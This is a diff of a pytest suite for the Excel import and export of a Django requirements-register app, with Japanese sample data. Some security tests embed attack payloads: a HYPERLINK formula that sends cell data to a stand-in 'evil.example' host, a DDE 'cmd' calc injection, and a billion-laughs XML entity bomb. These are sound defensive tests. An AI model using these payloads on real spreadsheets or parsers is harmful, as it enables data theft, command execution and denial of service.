@@ -8,6 +8,7 @@ import openpyxl
 import pytest
 from defusedxml import DefusedXmlException
 from django.core.exceptions import PermissionDenied
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 
 from shinrai.core.models import AuditEvent, Visibility
@@ -28,6 +29,16 @@ RANGE = {
     "method": "月次の稼働実績",
 }
 FIRST_ROW = 4  # row 3 holds the column titles
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CATS = "可用性 / 性能・拡張性 / 運用・保守性 / 移行性 / セキュリティ / システム環境"
+NO_TITLES = (
+    "The column titles were not found. Keep the title row of the exported file (for example “要件ID”)."
+)
+NOT_AN_ID = "“%s” is not a requirement ID. Use IDs like REQ-012, or leave it empty for a new requirement."
+NOT_ON_MAIN_SHEET = "%s is not on the sheet “要件一覧”. Criteria can only be given for requirements on it."
+PROTECTED = (
+    "The file is password-protected or in the old .xls format. Save it as an .xlsx file without a password."
+)
 
 
 @pytest.fixture(autouse=True)
@@ -43,7 +54,9 @@ def register(cast, make_requirement):
     pm = cast.users["vendor_pm"]
     manager = services.stakeholder_save(by=pm, project=cast.own, name="工場長", category="executive")
     clerk = services.stakeholder_save(by=pm, project=cast.own, name="出荷担当", category="field_staff")
-    goal = services.goal_save(by=pm, project=cast.own, title="納期回答の迅速化", success_definition="当日中に回答")
+    goal = services.goal_save(
+        by=pm, project=cast.own, title="納期回答の迅速化", success_definition="当日中に回答"
+    )
     first = make_requirement("在庫一覧を迅速に表示すること", goal=goal, sources=[manager, clerk])
     second = make_requirement(
         "システムは平日8時から20時まで利用できること",
@@ -77,7 +90,8 @@ def state(project) -> list:
     """Everything an import could change, to assert that a refused import changed nothing."""
     rows = []
     for r in Requirement.objects.filter(project=project).prefetch_related("criteria", "sources"):
-        criteria = [tuple(getattr(c, n) for n in AcceptanceCriterion.CONTENT_FIELDS) for c in r.criteria.all()]
+        fields = AcceptanceCriterion.CONTENT_FIELDS
+        criteria = [tuple(getattr(c, n) for n in fields) for c in r.criteria.all()]
         sources = sorted(s.pk for s in r.sources.all())
         rows.append((r.ref, r.text, r.kind, r.category, r.priority, r.goal_id, r.status, sources, criteria))
     return [rows, AuditEvent.objects.count()]
@@ -87,7 +101,7 @@ def issues(result) -> list[tuple]:
     return [(e.sheet, e.row, e.column, e.message) for e in result.errors]
 
 
-# --- Export -----------------------------------------------------------------------------------------------------
+# --- Export ----------------------------------------------------------------------------------------------
 
 
 def test_export_layout_is_a_japanese_register(cast, register):
@@ -109,7 +123,8 @@ def test_export_layout_is_a_japanese_register(cast, register):
     assert ws["B4"].alignment.wrap_text
     first, second = (Requirement.objects.get(pk=r.pk) for r in register)
     assert [c.value for c in ws[4]][:8] == [
-        "REQ-001", "在庫一覧を迅速に表示すること", "機能", None, "必須", "納期回答の迅速化", "工場長, 出荷担当", "下書き",
+        "REQ-001", "在庫一覧を迅速に表示すること", "機能", None, "必須", "納期回答の迅速化",
+        "工場長, 出荷担当", "下書き",
     ]  # fmt: skip
     assert ws["I4"].value == sentence_ja(first.criteria.get())
     assert first.findings, "the checker should flag 迅速に"
@@ -121,8 +136,8 @@ def test_export_layout_is_a_japanese_register(cast, register):
     criteria = book[CRITERIA_SHEET]
     assert criteria.freeze_panes == "B4"
     assert [c.value for c in criteria[3]] == [
-        "要件ID\nID", "指標\nMetric", "条件式\nOperator", "閾値\nThreshold", "上限\nUpper threshold", "単位\nUnit",
-        "条件\nCondition", "測定方法\nMeasurement method",
+        "要件ID\nID", "指標\nMetric", "条件式\nOperator", "閾値\nThreshold", "上限\nUpper threshold",
+        "単位\nUnit", "条件\nCondition", "測定方法\nMeasurement method",
     ]  # fmt: skip
     rows = [[c.value for c in row] for row in criteria.iter_rows(min_row=4)]
     assert rows == [
@@ -135,7 +150,10 @@ def test_export_layout_is_a_japanese_register(cast, register):
 def test_export_for_a_customer_has_no_internal_requirements(cast, register, make_requirement):
     make_requirement("原価を社内で管理すること", visibility=Visibility.INTERNAL)
     internal_goal = services.goal_save(
-        by=cast.users["vendor_pm"], project=cast.own, title="社内: 粗利改善", success_definition="粗利30%",
+        by=cast.users["vendor_pm"],
+        project=cast.own,
+        title="社内: 粗利改善",
+        success_definition="粗利30%",
         visibility=Visibility.INTERNAL,
     )
     services.requirement_update(by=cast.users["vendor_pm"], requirement=register[1], goal=internal_goal)
@@ -151,12 +169,25 @@ def test_export_for_a_customer_has_no_internal_requirements(cast, register, make
     assert vendor_book[MAIN_SHEET]["F5"].value == "社内: 粗利改善"
 
 
+@pytest.mark.parametrize("role", ["outsider_customer", "other_vendor_manager", "outsider_partner"])
+def test_export_needs_access_to_the_project(cast, register, role):
+    with pytest.raises(PermissionDenied):
+        excel.export_requirements(user=cast.users[role], project=cast.own)
+
+
+def test_markup_in_text_is_not_mistaken_for_xml(cast, make_requirement):
+    make_requirement("画面に <!DOCTYPE html> と <!ENTITY x> を表示しないこと")
+    result = run_import(cast.users["vendor_pm"], cast.own, export(cast))
+    assert (result.errors, result.unchanged) == ([], 1)
+
+
 def test_export_keeps_formula_like_text_as_text(cast, make_requirement):
     pm_user = cast.users["vendor_pm"]
     services.stakeholder_save(by=pm_user, project=cast.own, name="+81 営業", category="other")
     dangerous = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
     make_requirement(
-        dangerous, sources=list(cast.own.stakeholders.all()),
+        dangerous,
+        sources=list(cast.own.stakeholders.all()),
         criteria=[CRITERION | {"metric": "@SUM(1)", "threshold": "-1", "condition": "\t=cmd|' /C calc'!A0"}],
     )
     data = export(cast)
@@ -178,7 +209,7 @@ def test_export_keeps_formula_like_text_as_text(cast, make_requirement):
     assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, 1)
 
 
-# --- Import: round trips ------------------------------------------------------------------------------------------
+# --- Import: round trips ---------------------------------------------------------------------------------
 
 
 def test_unchanged_file_imports_with_no_updates(cast, register):
@@ -212,7 +243,8 @@ def test_new_row_is_created_with_the_next_number(cast, register):
     services.requirement_withdraw(by=cast.users["vendor_pm"], requirement=register[1])
     book = workbook(export(cast))
     ws = book[MAIN_SHEET]
-    for column, value in zip("BCDEFG", ["帳票をPDFで出力できること", "functional", None, "could", None, "出荷担当"]):
+    new_row = ["帳票をPDFで出力できること", "functional", None, "could", None, "出荷担当"]
+    for column, value in zip("BCDEFG", new_row, strict=True):
         ws[f"{column}6"] = value
     result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
     assert (result.errors, result.created, result.updated, result.unchanged) == ([], 1, 0, 2)
@@ -243,20 +275,46 @@ def test_criteria_round_trip_and_replacement(cast, register):
 
     def criteria_of(number):
         requirement = Requirement.objects.get(project=cast.own, number=number)
-        return [(c.metric, c.operator, c.threshold, c.threshold_high, c.unit) for c in requirement.criteria.all()]
+        criteria = requirement.criteria.all()
+        return [(c.metric, c.operator, c.threshold, c.threshold_high, c.unit) for c in criteria]
 
-    assert criteria_of(1) == [("検索応答時間(95パーセンタイル)", "lte", "3", "", "秒"), ("誤出荷率", "lt", "0.1", "", "%")]
+    assert criteria_of(1) == [
+        ("検索応答時間(95パーセンタイル)", "lte", "3", "", "秒"),
+        ("誤出荷率", "lt", "0.1", "", "%"),
+    ]
     assert criteria_of(2) == [("稼働率", "between", "99.5", "99.9", "%")]
     assert criteria_of(3) == [("取込時間", "lte", "60", "", "秒")]
     assert Requirement.objects.get(project=cast.own, number=3).text == "出荷指示をCSVで取り込めること"
 
 
-def test_requirement_without_criteria_rows_loses_its_criteria(cast, register):
+def test_import_keeps_the_rules_of_the_services(cast, register):
+    """Findings follow the new text; a changed approved requirement goes back to draft, the others stay."""
+    review = services.review_submit(by=cast.users["vendor_pm"], project=cast.own)
+    services.review_approve(by=cast.users["customer_sponsor"], review=review)
+    book = workbook(export(cast))
+    book[MAIN_SHEET]["B4"] = "在庫一覧を95パーセンタイルで2秒以内に表示すること"
+    result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
+    assert (result.errors, result.updated, result.unchanged) == ([], 1, 1)
+    first, second = Requirement.objects.filter(project=cast.own).order_by("number")
+    assert (first.status, first.is_verifiable, first.findings) == ("draft", True, [])
+    assert second.status == "approved"
+    update = AuditEvent.objects.get(action="requirement.update")
+    assert update.before == {"text": "在庫一覧を迅速に表示すること", "status": "approved"}
+    assert update.after == {"text": "在庫一覧を95パーセンタイルで2秒以内に表示すること", "status": "draft"}
+
+
+def test_uploaded_file_is_accepted(cast, register):
+    upload = SimpleUploadedFile("要件一覧.xlsx", export(cast), content_type=XLSX)
+    result = excel.import_requirements(user=cast.users["vendor_member"], project=cast.own, file=upload)
+    assert (result.errors, result.unchanged) == ([], 2)
+
+
+def test_requirement_left_off_the_criteria_sheet_keeps_its_criteria(cast, register):
     book = workbook(export(cast))
     book[CRITERIA_SHEET].delete_rows(5, 2)  # both rows of REQ-002
     result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
-    assert (result.errors, result.updated, result.unchanged) == ([], 1, 1)
-    assert Requirement.objects.get(project=cast.own, number=2).criteria.count() == 0
+    assert (result.errors, result.updated, result.unchanged) == ([], 0, 2)
+    assert Requirement.objects.get(project=cast.own, number=2).criteria.count() == 2
 
 
 def test_japanese_labels_and_code_values_are_both_accepted(cast, register):
@@ -291,12 +349,12 @@ def test_optional_columns_can_be_left_out(cast, register):
     ]
 
 
-# --- Import: refused files and rows; nothing written ------------------------------------------------------------
+# --- Import: refused files and rows; nothing written -----------------------------------------------------
 
 
 @pytest.fixture
 def refused(cast, register):
-    """Import a modified export and check that nothing changed; returns the (sheet, row, column, message) list."""
+    """Import a modified export, check that nothing changed, return the (sheet, row, column, message) list."""
 
     def run(edit=None, *, data=None):
         if data is None:
@@ -357,7 +415,7 @@ def test_missing_sheet_and_header_are_reported(refused):
         book[MAIN_SHEET].delete_rows(3)
 
     assert refused(edit) == [
-        (MAIN_SHEET, None, "", "The column titles were not found. Keep the title row of the exported file (for example “要件ID”)."),
+        (MAIN_SHEET, None, "", NO_TITLES),
         (CRITERIA_SHEET, None, "", "The sheet “受入基準” is missing."),
     ]  # fmt: skip
 
@@ -373,8 +431,8 @@ def test_unknown_duplicate_and_malformed_ids_are_reported(refused):
     assert refused(edit) == [
         (MAIN_SHEET, 4, "要件ID", "REQ-099 does not exist in this project."),
         (MAIN_SHEET, 6, "要件ID", "REQ-002 appears more than once (first on row 5)."),
-        (MAIN_SHEET, 7, "要件ID", "“要件7” is not a requirement ID. Use IDs like REQ-012, or leave it empty for a new requirement."),
-        (CRITERIA_SHEET, 4, "要件ID", "REQ-001 is not on the sheet “要件一覧”. Criteria can only be given for requirements on it."),
+        (MAIN_SHEET, 7, "要件ID", NOT_AN_ID % "要件7"),
+        (CRITERIA_SHEET, 4, "要件ID", NOT_ON_MAIN_SHEET % "REQ-001"),
         (CRITERIA_SHEET, 6, "要件ID", "REQ-099 does not exist in this project."),
     ]  # fmt: skip
 
@@ -403,7 +461,7 @@ def test_bad_values_are_reported_per_cell(refused):
         (MAIN_SHEET, 4, "要件", "Enter the requirement."),
         (MAIN_SHEET, 4, "種別", "“画面” is not one of: 機能 / 非機能."),
         (MAIN_SHEET, 4, "優先度", "“最優先” is not one of: 必須 / 推奨 / 任意 / 対象外."),
-        (MAIN_SHEET, 5, "非機能カテゴリ", "Choose the category of a non-functional requirement: 可用性 / 性能・拡張性 / 運用・保守性 / 移行性 / セキュリティ / システム環境."),
+        (MAIN_SHEET, 5, "非機能カテゴリ", f"Choose the category of a non-functional requirement: {CATS}."),
         (MAIN_SHEET, 5, "目的", "This project has no goal titled “存在しない目的”."),
         (MAIN_SHEET, 5, "要求元", "This project has no stakeholder named “社長”."),
         (MAIN_SHEET, 6, "非機能カテゴリ", "Leave the category empty for a functional requirement."),
@@ -436,8 +494,8 @@ def test_criteria_for_a_requirement_not_on_the_main_sheet_are_refused(refused):
         book[MAIN_SHEET].delete_rows(5)  # REQ-002 is left out of the file, its criteria are not
 
     assert refused(edit) == [
-        (CRITERIA_SHEET, 5, "要件ID", "REQ-002 is not on the sheet “要件一覧”. Criteria can only be given for requirements on it."),
-        (CRITERIA_SHEET, 6, "要件ID", "REQ-002 is not on the sheet “要件一覧”. Criteria can only be given for requirements on it."),
+        (CRITERIA_SHEET, 5, "要件ID", NOT_ON_MAIN_SHEET % "REQ-002"),
+        (CRITERIA_SHEET, 6, "要件ID", NOT_ON_MAIN_SHEET % "REQ-002"),
     ]  # fmt: skip
 
 
@@ -452,9 +510,7 @@ def test_bytes_that_are_not_xlsx_are_refused(refused):
 def test_password_protected_file_is_refused(refused):
     # An encrypted .xlsx (and an old .xls) is an OLE compound document, not a zip.
     ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
-    assert refused(data=ole) == [
-        ("", None, "", "The file is password-protected or in the old .xls format. Save it as an .xlsx file without a password.")
-    ]  # fmt: skip
+    assert refused(data=ole) == [("", None, "", PROTECTED)]
 
 
 def test_truncated_file_is_refused(cast, refused):
@@ -512,9 +568,12 @@ BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 ]>
 <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
-<row r="3"><c r="A3" t="inlineStr"><is><t>要件ID</t></is></c><c r="B3" t="inlineStr"><is><t>&f;</t></is></c></row>
+<row r="3"><c r="A3" t="inlineStr"><is><t>要件ID</t></is></c>
+<c r="B3" t="inlineStr"><is><t>&f;</t></is></c></row>
 </sheetData></worksheet>""".encode()
-FORBIDDEN_XML = "The file contains XML declarations (DOCTYPE or ENTITY) that are not allowed in an Excel file."
+FORBIDDEN_XML = (
+    "The file contains XML declarations (DOCTYPE or ENTITY) that are not allowed in an Excel file."
+)
 
 
 def rewrite(data: bytes, member: str, content: bytes) -> bytes:
@@ -553,10 +612,13 @@ def test_zip_bomb_is_refused(cast, refused):
     ]
 
 
-# --- Import: who may, and when ------------------------------------------------------------------------------------
+# --- Import: who may, and when ---------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("role", ["customer_sponsor", "customer_member", "partner_viewer", "other_vendor_manager"])
+@pytest.mark.parametrize(
+    "role",
+    ["customer_sponsor", "customer_member", "partner_viewer", "other_vendor_manager", "outsider_customer"],
+)
 def test_only_contributors_may_import(cast, register, role):
     data = export(cast)
     before = state(cast.own)
@@ -571,9 +633,8 @@ def test_open_customer_review_is_one_clear_error(cast, register):
     services.review_submit(by=cast.users["vendor_pm"], project=cast.own)
     before = state(cast.own)
     result = run_import(cast.users["vendor_pm"], cast.own, to_bytes(book))
-    assert issues(result) == [
-        ("", None, "", "The requirements are with the customer for review. Withdraw the review to make changes.")
-    ]
+    message = "The requirements are with the customer for review. Withdraw the review to make changes."
+    assert issues(result) == [("", None, "", message)]
     assert state(cast.own) == before
 
 
@@ -583,9 +644,11 @@ def test_errors_come_in_the_users_language(cast, register):
     data = to_bytes(book)
     with translation.override("en"):
         (error,) = run_import(cast.users["vendor_pm"], cast.own, data).errors
-    assert error == ImportIssue(MAIN_SHEET, 4, "優先度", "“最優先” is not one of: 必須 / 推奨 / 任意 / 対象外.")
-    assert str(error) == "要件一覧 row 4 優先度: “最優先” is not one of: 必須 / 推奨 / 任意 / 対象外."
+    english = "“最優先” is not one of: 必須 / 推奨 / 任意 / 対象外."
+    assert error == ImportIssue(MAIN_SHEET, 4, "優先度", english)
+    assert str(error) == f"要件一覧 row 4 優先度: {english}"
+    japanese = "「最優先」は 必須 / 推奨 / 任意 / 対象外 のいずれでもありません。"
     with translation.override("ja"):
         (error,) = run_import(cast.users["vendor_pm"], cast.own, data).errors
-        assert str(error) == "要件一覧 4行目 優先度: 「最優先」は 必須 / 推奨 / 任意 / 対象外 のいずれでもありません。"
-    assert error.message == "「最優先」は 必須 / 推奨 / 任意 / 対象外 のいずれでもありません。"
+        assert str(error) == f"要件一覧 4行目 優先度: {japanese}"
+    assert error.message == japanese
